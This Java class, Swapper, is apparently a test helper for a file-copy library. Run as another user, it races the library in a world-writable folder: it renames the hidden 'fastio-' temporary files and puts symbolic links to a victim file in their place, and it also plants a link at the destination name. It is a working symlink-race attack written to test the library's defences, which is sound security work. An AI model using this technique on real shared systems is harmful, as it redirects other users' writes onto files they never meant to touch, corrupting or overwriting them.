package dev.fastio.copy;

import java.io.IOException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * The attacker next door, run as another user by {@link SharedFolderAttackTest}: in a folder
 * that everyone may write (0777, no sticky bit), it loops until {@code stop} exists or its time
 * is up, and (1) takes every hidden entry whose name holds {@code fastio-} (the temporary names of this version and earlier ones) away (renames it) and
 * puts a symbolic link to the victim under that name; (2) whenever the destination's name is
 * free, puts a link to the victim there. A writer that reaches a file again by its name after
 * creating it then acts on the victim. Prints how many swaps it made. Standalone: it runs in its
 * own JVM from a copy of this class file, with nothing else on its class path.
 */
public final class Swapper {
    private Swapper() {}

    public static void main(String[] args) throws Exception {
        Path dir = Path.of(args[0]);
        Path victim = Path.of(args[1]);
        String destination = args[2];
        long end = System.nanoTime() + (long) (Double.parseDouble(args[3]) * 1e9);
        Path stop = Path.of(args[4]);
        long swaps = 0;
        long taken = 0;
        while (System.nanoTime() < end && !Files.exists(stop)) {
            try (DirectoryStream<Path> entries = Files.newDirectoryStream(dir)) {
                for (Path e : entries) {
                    String name = e.getFileName().toString();
                    if (name.startsWith(".") && name.contains("fastio-") && !Files.isSymbolicLink(e)) {
                        try {
                            Files.move(e, dir.resolve("taken-" + taken++));
                            Files.createSymbolicLink(e, victim);
                            swaps++;
                        } catch (IOException lost) {
                            // the writer was faster: try again on the next pass
                        }
                    }
                }
            } catch (IOException | RuntimeException busy) {
                // the folder changed under the listing: list again
            }
            try {
                Files.createSymbolicLink(dir.resolve(destination), victim);
                swaps++;
            } catch (IOException exists) {
                // the name is taken
            }
        }
        System.out.println(swaps);
    }
}
